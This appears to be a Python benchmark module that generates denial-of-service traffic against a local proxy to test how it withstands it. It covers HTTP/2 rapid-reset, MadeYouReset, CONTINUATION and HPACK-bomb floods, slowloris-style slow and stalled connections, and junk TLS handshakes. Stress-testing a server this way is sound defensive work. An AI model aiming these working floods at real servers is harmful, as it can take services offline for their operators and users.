"""The attackers of bench/floods. Their bytes are made before the clock starts, so that an attack costs its sender little.

An HTTP/2 flood is one connection after the other, each as fast as the proxy takes it. The slow ones are many
connections at once, each of which says a little now and then or nothing.
"""

import resource
import select
import socket
import ssl
import struct
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST, SETTINGS, PING, GOAWAY, WINDOW, CONTINUATION = 0, 1, 2, 3, 4, 6, 7, 8, 9
END_STREAM, END_HEADERS, PADDED = 1, 4, 8
CODES = ["NO_ERROR", "PROTOCOL_ERROR", "INTERNAL_ERROR", "FLOW_CONTROL_ERROR", "SETTINGS_TIMEOUT", "STREAM_CLOSED",
         "FRAME_SIZE_ERROR", "REFUSED_STREAM", "CANCEL", "COMPRESSION_ERROR", "CONNECT_ERROR", "ENHANCE_YOUR_CALM"]
MOST = 10000  # pieces of one connection: more than any of them lives for


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def text(value):
    if len(value) < 127:
        return bytes([len(value)]) + value
    left, out = len(value) - 127, b"\x7f"
    while left >= 128:
        out, left = out + bytes([0x80 | left & 0x7F]), left >> 7
    return out + bytes([left]) + value


def field(name, value):
    return b"\0" + text(name) + text(value)


def number(value):
    return struct.pack(">I", value)


def setting(key, value):
    return struct.pack(">HI", key, value)


PATH = b"/attack/0000"  # with the number of the connection in its place
GET = b"\x82\x86" + field(b":authority", b"bench.example") + field(b":path", PATH)
POST = b"\x83\x86" + field(b":authority", b"bench.example") + field(b":path", PATH)
LARGE = b"\x82\x86" + field(b":authority", b"bench.example") + field(b":path", b"/large")
SHUT = setting(4, 0)  # INITIAL_WINDOW_SIZE


def request(n, block=GET, flags=END_STREAM | END_HEADERS):
    return frame(HEADERS, flags, 2 * n + 1, block)


def window(n, by):
    return frame(WINDOW, 0, 2 * n + 1, number(by))


def hundred(n):
    round_, i = divmod(n, 200)
    return request(round_ * 100 + i) if i < 100 else frame(RST, 0, 2 * (round_ * 100 + i - 100) + 1, number(8))


def bomb(name, value, times, more=lambda n: b""):
    """The first request puts a field into the table, each names it as often as one frame can."""

    def piece(n):
        put = b"\x40" + text(name) + text(value) if n == 0 else b""
        return request(n, GET + put + b"\xbe" * times) + more(n)

    return piece


def refused_bomb(n):
    """A hundred open streams, and bombs on those that are refused."""
    put = b"\x40" + text(b"x") + text(b"v" * 4000) if n == 0 else b""
    return request(n, POST + put, END_HEADERS) if n < 100 else request(n, GET + b"\xbe" * 4000)


def after_first(first, rest):
    return lambda n: first if n == 0 else rest


# name: (the n-th piece of a connection, its SETTINGS, whether it reads what it is answered)
FLOODS = {
    "rapid reset": (lambda n: request(n) + frame(RST, 0, 2 * n + 1, number(8)), b"", False),
    "rapid reset, 100 at a time": (hundred, b"", False),
    "MadeYouReset: window overflow": (lambda n: request(n) + window(n, 0x7FFFFFFF), b"", False),
    "MadeYouReset: update of 0": (lambda n: request(n) + window(n, 0), b"", False),
    "MadeYouReset: PRIORITY of 4 bytes": (lambda n: request(n) + frame(PRIORITY, 0, 2 * n + 1, b"1234"), b"", False),
    "MadeYouReset: DATA behind the end": (lambda n: request(n) + frame(DATA, 1, 2 * n + 1, b"x"), b"", False),
    "MadeYouReset: wrong content-length": (
        lambda n: request(n, POST + field(b"content-length", b"1"), END_HEADERS) + frame(DATA, 0, 2 * n + 1, b"more"),
        b"", False),
    "CONTINUATION": (after_first(request(0, GET, END_STREAM), frame(CONTINUATION, 0, 1, field(b"x", b"y"))), b"", False),
    "CONTINUATION, empty": (after_first(request(0, GET, END_STREAM), frame(CONTINUATION, 0, 1)), b"", False),
    "PING": (lambda n: frame(PING, 0, 0, b"12345678"), b"", True),
    "PING, ACKs not read": (lambda n: frame(PING, 0, 0, b"12345678"), b"", False),
    "SETTINGS": (lambda n: frame(SETTINGS, 0, 0), b"", True),
    "SETTINGS, ACKs not read": (lambda n: frame(SETTINGS, 0, 0), b"", False),
    "SETTINGS of 2700 entries": (lambda n: frame(SETTINGS, 0, 0, setting(4, 65535) * 2700), b"", False),
    "PRIORITY": (lambda n: frame(PRIORITY, 0, 2 * n + 1, number(0) + b"\x10"), b"", False),
    "WINDOW_UPDATE": (lambda n: frame(WINDOW, 0, 0, number(1)), b"", False),
    "empty DATA": (after_first(request(0, POST, END_HEADERS), frame(DATA, 0, 1)), b"", False),
    "DATA of padding": (
        after_first(request(0, POST, END_HEADERS), frame(DATA, PADDED, 1, b"\xff" + bytes(255))), b"", False),
    "unknown frames": (lambda n: frame(0xBE, 0, 0, b"?"), b"", False),
    "10 000 streams": (request, b"", False),
    "HEADERS of a reset stream": (
        after_first(request(0, POST, END_HEADERS) + frame(RST, 0, 1, number(8)), request(0, field(b"x", b"y"))), b"",
        False),
    "10 000 streams with trailers": (
        lambda n: request(n, POST, END_HEADERS) + request(n, field(b"x", b"y")), b"", False),
    "HPACK bomb: 4 000 × 4 KB": (bomb(b"x", b"v" * 4000, 4000), b"", False),
    "HPACK bomb on refused streams": (refused_bomb, b"", False),
    "16 000 cookie crumbs": (bomb(b"cookie", b"a", 16000), b"", False),
    "16 000 empty fields": (bomb(b"x", b"", 16000), b"", False),
    "crumbs, window 0, 1-byte updates": (bomb(b"cookie", b"a", 16000, lambda n: window(n // 2, 1)), SHUT, False),
    "60 KB of fields, window 0, 1-byte updates": (bomb(b"x", b"v" * 550, 98, lambda n: window(n // 2, 1)), SHUT, False),
}


def end_of(data, how):
    """How the proxy ended a connection, from what it sent."""
    code = None
    while len(data) >= 9:
        size = int.from_bytes(data[:3], "big")
        if data[3] == GOAWAY and len(data) >= 17:
            code = CODES[int.from_bytes(data[13:17], "big")]
        data = data[9 + size:]
    return f"GOAWAY {code}" if code else how


def drain(sock):
    out = b""
    try:
        while piece := sock.recv(1 << 16):
            out += piece
        return out, "FIN"
    except (BlockingIOError, TimeoutError):
        return out, "open"
    except OSError:
        return out, "RST"


def flood(name, port, seconds):
    piece, settings, reads = FLOODS[name]
    bursts = [b"".join(piece(n) for n in range(at, at + 50)) for at in range(0, MOST, 50)]
    begin = PREFACE + frame(SETTINGS, 0, 0, settings)
    cpu, ends, connections = cpu_seconds(), {}, 0
    until = time.monotonic() + seconds
    while time.monotonic() < until:
        sock = socket.create_connection(("127.0.0.1", port))
        sock.settimeout(0.5)
        connections += 1
        seen, how = b"", "open"
        try:
            sock.sendall(begin)
            path = b"/attack/%04d" % (connections % 10000)
            for burst in bursts:
                sock.sendall(burst.replace(PATH, path))
                if reads and select.select([sock], [], [], 0)[0]:
                    seen += sock.recv(1 << 16)
        except TimeoutError:
            how = "not read any more"
        except OSError:
            how = "RST"
        rest, last = drain(sock)
        end = end_of(seen + rest, how if how != "open" else last)
        ends[end] = ends.get(end, 0) + 1
        sock.close()
    return {"ends": ends, "connections": connections, "cpu": cpu_seconds() - cpu}


def cpu_seconds():
    used = resource.getrusage(resource.RUSAGE_SELF)
    return used.ru_utime + used.ru_stime


# ---- slow ones

HEAD = b"GET /attack/0000 HTTP/1.1\r\nhost: bench.example\r\n"
BEGIN = PREFACE + frame(SETTINGS, 0, 0)
ASKS = b"".join(request(n, LARGE) for n in range(100))
OPENING = b"".join(window(n, 1) for n in range(100))
HELLO_HEAD = b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03"

# name: (connections, at once, then every 0.4 s, to the listener with TLS)
SLOW = {
    "slow preface": (200, b"", PREFACE, False),
    "slow SETTINGS": (200, PREFACE + frame(SETTINGS, 0, 0, bytes(6 * 32))[:9], bytes(6 * 32), False),
    "slow HEADERS": (200, BEGIN + frame(HEADERS, 5, 1, b"\x82" * 200)[:9], b"\x82" * 200, False),
    "slow DATA": (200, BEGIN + request(0, POST, END_HEADERS) + frame(DATA, 0, 1, b"x" * 200)[:9], b"x" * 200, False),
    "silent connections": (200, b"", b"", False),
    "h1: slow head": (200, HEAD, b"x: y\r\n" * 100, False),
    "h1: slow body": (200, HEAD.replace(b"GET", b"POST") + b"content-length: 1000\r\n\r\n", b"x" * 200, False),
    "h1: empty lines": (200, b"", b"\r\n" * 200, False),
    "zero window": (1, PREFACE + frame(SETTINGS, 0, 0, SHUT) + ASKS, b"", False),
    "dribble: window by 1 byte": (1, PREFACE + frame(SETTINGS, 0, 0, SHUT) + ASKS, OPENING, False),
    "2 000 stalled responses": (20, PREFACE + frame(SETTINGS, 0, 0, SHUT) + ASKS, b"", False),
    "TCP never read, h2": (
        1, PREFACE + frame(SETTINGS, 0, 0, setting(4, 0x7FFFFFFF)) + frame(WINDOW, 0, 0, number(0x7FFF0000)) + ASKS, b"",
        False),
    "TCP never read, h1": (200, HEAD.replace(b"attack/0000", b"large") + b"\r\n", b"", False),
    "silent handshakes": (200, b"", b"", True),
    "slow handshakes": (200, HELLO_HEAD, b"x" * 200, True),
}
WHOLE = {"dribble: window by 1 byte"}  # said whole each time, not a byte


def slow(name, port, tls_port, seconds):
    count, at_once, drops, tls = SLOW[name]
    reads = not name.startswith("TCP never read")
    cpu, sockets, ends, times = cpu_seconds(), [], {}, []
    for _ in range(count):
        sock = socket.create_connection(("127.0.0.1", tls_port if tls else port))
        sock.sendall(at_once)
        sock.setblocking(False)
        sockets.append((sock, bytearray()))
    start = last = time.monotonic()
    dropped, resets = 0, 0
    while sockets and time.monotonic() < start + seconds:
        time.sleep(0.1)
        drop = b""
        if drops and time.monotonic() >= last + 0.4:
            last = time.monotonic()
            drop = drops if name in WHOLE else drops[dropped:dropped + 1]
            dropped += 1
        left = []
        for sock, seen in sockets:
            how = "open"
            if reads:
                data, how = drain(sock)
                seen += data
            if how == "open" and drop:
                try:
                    sock.send(drop)
                except BlockingIOError:
                    pass
                except OSError:
                    how = "RST"
            if how == "open" and not reads and sock.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR):
                how = "RST"
            if how == "open":
                left.append((sock, seen))
                continue
            ended = "408" if seen.startswith(b"HTTP/1.1 408") else end_of(bytes(seen), how)
            ends[ended] = ends.get(ended, 0) + 1
            times.append(time.monotonic() - start)
            sock.close()
        sockets = left
    for sock, seen in sockets:
        data = bytes(seen)
        while len(data) >= 9:
            resets += data[3] == RST
            data = data[9 + int.from_bytes(data[:3], "big"):]
        sock.close()
    if sockets:
        ends[f"open, {resets} streams reset" if resets else "open"] = len(sockets)
    return {"ends": ends, "connections": count, "cpu": cpu_seconds() - cpu, "after": max(times, default=None)}


# ---- handshakes


def client_hello():
    context = ssl.create_default_context()
    context.set_alpn_protocols(["h2"])
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    tls = context.wrap_bio(incoming, outgoing, server_hostname="bench.example")
    try:
        tls.do_handshake()
    except ssl.SSLWantReadError:
        pass
    return outgoing.read()


def handshakes(name, tls_port, seconds):
    hello = client_hello()
    say = hello if name == "handshakes never finished" else b"\x16\x03\x01\x00\x05hello" + hello
    cpu, connections = cpu_seconds(), 0
    until = time.monotonic() + seconds
    while time.monotonic() < until:
        sock = socket.create_connection(("127.0.0.1", tls_port))
        sock.settimeout(1)
        try:
            sock.sendall(say)
            sock.recv(1 << 16)
        except OSError:
            pass
        sock.close()
        connections += 1
    return {"ends": {"by the attacker" if say == hello else "alert": connections}, "connections": connections,
            "cpu": cpu_seconds() - cpu}


HANDSHAKES = ["handshakes never finished", "handshakes of garbage"]


def attack(name, port, tls_port, seconds):
    if name in FLOODS:
        return flood(name, port, seconds)
    if name in SLOW:
        return slow(name, port, tls_port, seconds)
    return handshakes(name, tls_port, seconds)


# How long it takes to see the end of each: what the defaults of the limits say.
def seconds_of(name, quick):
    if name in FLOODS or name in HANDSHAKES:
        return quick
    if name in ("slow HEADERS", "h1: slow head", "h1: slow body", "slow DATA", "slow handshakes", "silent handshakes"):
        return 16
    if name in ("slow preface", "slow SETTINGS", "silent connections", "h1: empty lines"):
        return 66
    return 48
